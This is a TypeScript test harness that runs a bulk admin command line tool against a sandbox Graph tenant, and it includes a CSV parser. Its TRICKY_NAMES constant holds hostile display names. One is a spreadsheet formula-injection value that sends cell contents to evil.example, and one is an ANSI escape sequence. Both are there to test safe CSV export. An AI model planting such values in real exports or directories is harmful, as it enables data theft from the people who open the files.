/**
 * The bulk command line in-process against a sandbox tenant with a generated group: the
 * real config loading, Graph gateway over HTTPS, SQLite in a temp dir, and a recording
 * terminal, so a test can read everything the admin saw.
 */
import { mkdtempSync, readdirSync, rmSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { generatedDirectory, type GeneratedFacts } from '../../sandbox/generate';
import { startSandbox } from '../../sandbox/server';
import type { RunningSandbox } from '../../sandbox/types';
import type { BulkCliIo, ExitCode } from '../../src/bulkCli/run';
import { runBulkCliWithSandbox as runBulkCli } from '../../dev/sandboxTools';

export const ADMIN_UPN = 'joni@contoso.com';

/** Display names a directory might hold, that must reach the CSV safely. */
export const TRICKY_NAMES = {
  formula: '=HYPERLINK("https://evil.example/?x"&A1;"click")',
  separators: 'Ann "Annie" Lee; Jr.\nSecond line',
  escape: 'Eve \u001b[2J\u001b[31mRed',
} as const;

export interface CliWorld {
  sandbox: RunningSandbox;
  facts: GeneratedFacts;
  /** Working directory of each run (a fresh temp dir). */
  cwd: string;
  env: Record<string, string>;
  run(argv: string[], options?: { answer?: string }): Promise<CliRun>;
  /** TAP creates the sandbox received ($batch items included). */
  creates(): number;
  /** Files in cwd. */
  files(): string[];
  /** A fresh working directory and storage for the next test; the sandbox back at its seed. */
  fresh(): void;
  stop(): Promise<void>;
}

interface CliRun {
  code: ExitCode;
  stdout: string;
  stderr: string;
  /** The question asked on the "terminal", if one was. */
  asked?: string;
}

export async function startCliWorld(options: { members: number }): Promise<CliWorld> {
  const { directory, facts } = generatedDirectory({ members: options.members });
  const users = (directory as { users: Array<{ id: string; displayName: string }> }).users;
  const rename = (id: string, name: string): void => {
    const u = users.find((x) => x.id === id);
    if (u) u.displayName = name;
  };
  rename(facts.memberIds[0] as string, TRICKY_NAMES.formula);
  rename(facts.memberIds[1] as string, TRICKY_NAMES.separators);
  rename(facts.memberIds[2] as string, TRICKY_NAMES.escape);
  const sandbox = await startSandbox({ port: 0, directory });
  const root = mkdtempSync(path.join(os.tmpdir(), 'bulk-cli-'));
  let n = 0;
  const world: CliWorld = {
    sandbox,
    facts,
    cwd: '',
    env: {},
    async run(argv, o = {}) {
      let stdout = '';
      let stderr = '';
      let asked: string | undefined;
      const io: BulkCliIo = {
        stdout: { write: (t: string) => (stdout += t) },
        stderr: { write: (t: string) => (stderr += t), isTTY: false },
        ...(o.answer !== undefined
          ? {
              ask: async (q: string) => {
                asked = q;
                return o.answer as string;
              },
            }
          : {}),
      };
      const code = await runBulkCli(argv, io, { env: world.env, cwd: world.cwd, sandbox, runBy: 'admin@workstation', progressLineEveryInMs: 50 });
      return { code, stdout, stderr, ...(asked !== undefined ? { asked } : {}) };
    },
    creates() {
      let count = 0;
      for (const r of sandbox.requests) {
        const items = r.batchItems ? r.batchItems.map((url, i) => ({ url, method: r.batchItemMethods?.[i] ?? '?' })) : [{ url: r.url, method: r.method }];
        for (const { url, method } of items) if (method === 'POST' && /\/authentication\/temporaryAccessPassMethods$/.test(url.split('?')[0] ?? '')) count++;
      }
      return count;
    },
    files: () => readdirSync(world.cwd).sort(),
    fresh() {
      sandbox.reset();
      world.cwd = mkdtempSync(path.join(root, `run-${++n}-`));
      world.env = { SANDBOX_GRAPH_PORT: '0', PLAYGROUND: 'false', SQLITE_PATH: path.join(root, `state-${n}.sqlite`), BULK_WRITES_PER_SECOND: '200' };
    },
    async stop() {
      await sandbox.stop();
      rmSync(root, { recursive: true, force: true });
    },
  };
  return world;
}

/** `;`-separated CSV with RFC 4180 quoting, as a spreadsheet reads it. */
export function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i] as string;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (c === '"') quoted = false;
      else field += c;
    } else if (c === '"' && field === '') quoted = true;
    else if (c === ';') {
      row.push(field);
      field = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
      i++;
    } else field += c;
  }
  if (field !== '' || row.length > 0) rows.push([...row, field]);
  return rows;
}
